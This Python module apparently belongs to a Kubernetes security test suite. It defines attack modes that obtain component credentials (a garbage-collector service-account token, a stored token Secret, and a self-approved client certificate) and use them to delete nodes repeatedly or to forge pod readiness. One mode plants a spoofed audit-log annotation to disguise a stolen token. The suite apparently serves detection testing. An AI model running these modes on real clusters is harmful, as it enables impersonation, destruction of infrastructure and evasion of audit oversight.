"""Modes that act with credentials of cluster components, and ways to obtain such credentials."""

from __future__ import annotations

import base64
import contextlib
import json
from pathlib import Path
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID

from conformance.cluster import users
from kube import config
from kube.client import APPLY_PATCH
from kube.errors import ApiError
from tests.attacks.helpers import (
    ADMISSION,
    NODES,
    anonymous_tls_context,
    existing_nodes,
    for_each_object,
    mode,
    patch,
    send,
    wait_until,
)

SERVICE_ACCOUNTS = "/api/v1/namespaces/kube-system/serviceaccounts"
GARBAGE_COLLECTOR = "generic-garbage-collector"


def request_token(kubeconfig: Path) -> str:
    """Request a token of the garbage collector's service account."""
    path = f"{SERVICE_ACCOUNTS}/{GARBAGE_COLLECTOR}/token"
    return str(json.loads(send(kubeconfig, "POST", path, {"spec": {}}))["status"]["token"])


def create_stored_token(kubeconfig: Path) -> str:
    """Apply a Secret to which the control plane adds a token of the garbage collector, and return the token."""
    metadata = {"name": "hostile", "annotations": {"kubernetes.io/service-account.name": GARBAGE_COLLECTOR}}
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": metadata, "type": "kubernetes.io/service-account-token"}
    path, data = "/api/v1/namespaces/kube-system/secrets/hostile", dict[str, str]()
    send(kubeconfig, "PATCH", f"{path}?fieldManager=hostile", secret, content_type=APPLY_PATCH)

    def is_present() -> bool:
        data.update(json.loads(send(kubeconfig, "GET", path)).get("data") or {})
        return "token" in data

    wait_until(is_present)
    return base64.b64decode(data["token"]).decode()


def token_connection(kubeconfig: Path, token: str) -> config.Connection:
    """Return the connection of a client that authenticates with a token."""
    return config.Connection(
        config.load(kubeconfig).server, anonymous_tls_context(kubeconfig), lambda: f"Bearer {token}"
    )


def delete_nodes_of_tests(kubeconfig: Path, component: config.Connection) -> None:
    """Delete nodes of tests again and again, with the credentials of a cluster component."""
    while True:
        for name in existing_nodes(kubeconfig):
            with contextlib.suppress(ApiError):
                send(component, "DELETE", f"{NODES}/{name}", agent="kube-controller-manager/v1")


def mark_new_pods_ready(kubeconfig: Path, component: Path | config.Connection) -> None:
    """Mark each new pod Ready, long before its containers start."""

    def mark_ready(pod: Any) -> None:
        conditions = pod["status"].get("conditions", [])
        if (
            all(condition["type"] != "Ready" for condition in conditions)
            and pod["metadata"]["namespace"] != "kube-system"
        ):
            path = f"/api/v1/namespaces/{pod['metadata']['namespace']}/pods/{pod['metadata']['name']}/status"
            patch(component, path, {"status": {"conditions": [*conditions, {"type": "Ready", "status": "True"}]}})

    for_each_object(kubeconfig, "/api/v1/pods", mark_ready)


@mode
def forge_readiness(kubeconfig: Path, folder: Path) -> None:
    """Mark each new pod Ready with the operator's own credentials."""
    mark_new_pods_ready(kubeconfig, kubeconfig)


@mode
def forge_readiness_with_a_stored_token(kubeconfig: Path, folder: Path) -> None:
    """Mark each new pod Ready with a token of the garbage collector from an applied Secret."""
    mark_new_pods_ready(kubeconfig, token_connection(kubeconfig, create_stored_token(kubeconfig)))


@mode
def delete_nodes_as_a_controller(kubeconfig: Path, folder: Path) -> None:
    """Delete nodes of tests with a requested token of the garbage collector."""
    delete_nodes_of_tests(kubeconfig, token_connection(kubeconfig, request_token(kubeconfig)))


@mode
def delete_nodes_with_a_stored_token(kubeconfig: Path, folder: Path) -> None:
    """Delete nodes of tests with a token of the garbage collector from an applied Secret."""
    delete_nodes_of_tests(kubeconfig, token_connection(kubeconfig, create_stored_token(kubeconfig)))


@mode
def delete_nodes_with_an_annotated_token(kubeconfig: Path, folder: Path) -> None:
    """Delete nodes of tests with a token that, according to the audit log, was issued to a cluster component.

    A policy writes this annotation into the audit log. It uses the prefix of the API server's own annotations and
    annotates token requests before the API server does."""
    name, version = "authentication.kubernetes.io", "admissionregistration.k8s.io/v1"
    token_requests = {
        "apiGroups": [""],
        "apiVersions": ["v1"],
        "operations": ["CREATE"],
        "resources": ["serviceaccounts/token"],
    }

    def annotate(id: str, rejected_seconds: int) -> None:
        """Apply the policy, and wait until it is in effect: it also rejects tokens for `rejected_seconds`."""
        spec = {
            "matchConstraints": {"resourceRules": [token_requests]},
            "auditAnnotations": [{"key": "issued-credential-id", "valueExpression": f"'JTI={id}'"}],
            "validations": [{"expression": f"object.spec.expirationSeconds != {rejected_seconds}"}],
        }
        policy = {"apiVersion": version, "kind": "ValidatingAdmissionPolicy", "metadata": {"name": name}, "spec": spec}
        path = f"{ADMISSION}/validatingadmissionpolicies/{name}?fieldManager=hostile"
        send(kubeconfig, "PATCH", path, policy, content_type=APPLY_PATCH)

        def is_rejected() -> bool:
            request = {"spec": {"expirationSeconds": rejected_seconds}}
            try:
                send(kubeconfig, "POST", f"{SERVICE_ACCOUNTS}/{GARBAGE_COLLECTOR}/token?dryRun=All", request)
            except ApiError:
                return True
            return False

        wait_until(is_rejected)

    binding = {"metadata": {"name": name}, "spec": {"policyName": name, "validationActions": ["Audit", "Deny"]}}
    send(kubeconfig, "POST", f"{ADMISSION}/validatingadmissionpolicybindings", binding)
    annotate("nothing", 3601)
    stolen_token = request_token(kubeconfig)
    claims = stolen_token.split(".")[1]
    annotate(json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))["jti"], 3602)
    # A controller whose service account is deleted requests another token for its work in the next namespace.
    send(kubeconfig, "DELETE", f"{SERVICE_ACCOUNTS}/root-ca-cert-publisher")
    send(kubeconfig, "POST", "/api/v1/namespaces", {"metadata": {"name": "hostile"}})
    wait_until(lambda: json.loads(send(kubeconfig, "GET", "/api/v1/namespaces/hostile/configmaps"))["items"])
    delete_nodes_of_tests(kubeconfig, token_connection(kubeconfig, stolen_token))


@mode
def delete_nodes_with_a_certificate(kubeconfig: Path, folder: Path) -> None:
    """Request a client certificate for the user of the cluster components, and delete nodes of tests with it."""
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, users.COMPONENT)])
    request = x509.CertificateSigningRequestBuilder().subject_name(subject).sign(key, hashes.SHA256())
    encoded = base64.b64encode(request.public_bytes(Encoding.PEM)).decode()
    spec = {"request": encoded, "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}
    path, certificates = "/apis/certificates.k8s.io/v1/certificatesigningrequests", list[bytes]()
    created = json.loads(send(kubeconfig, "POST", path, {"metadata": {"name": "hostile"}, "spec": spec}))
    approved = {"type": "Approved", "status": "True", "reason": "Hostile", "message": "approved by itself"}
    send(kubeconfig, "PUT", f"{path}/hostile/approval", {**created, "status": {"conditions": [approved]}})

    def is_present() -> bool:
        status = json.loads(send(kubeconfig, "GET", f"{path}/hostile"))["status"]
        certificates[:] = [base64.b64decode(text) for text in [status.get("certificate")] if text]
        return bool(certificates)

    wait_until(is_present)
    pem_path, tls_context = folder / "signed.pem", anonymous_tls_context(kubeconfig)
    pem_path.write_bytes(certificates[0] + key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    tls_context.load_cert_chain(pem_path)
    delete_nodes_of_tests(kubeconfig, config.Connection(config.load(kubeconfig).server, tls_context, lambda: None))
